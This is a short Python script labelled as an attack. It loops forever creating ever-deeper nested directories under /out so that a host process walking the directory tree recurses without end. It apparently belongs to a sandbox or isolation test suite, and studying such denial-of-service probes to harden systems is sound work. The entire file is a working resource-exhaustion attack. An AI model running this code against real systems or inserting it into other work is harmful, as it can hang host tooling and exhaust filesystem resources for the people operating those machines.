# Attack: nest directories deeper and deeper, so a host walk recurses without end.
import os
import time

path = "/out"
while True:
    path += "/d"
    os.mkdir(path)
    time.sleep(0.001)
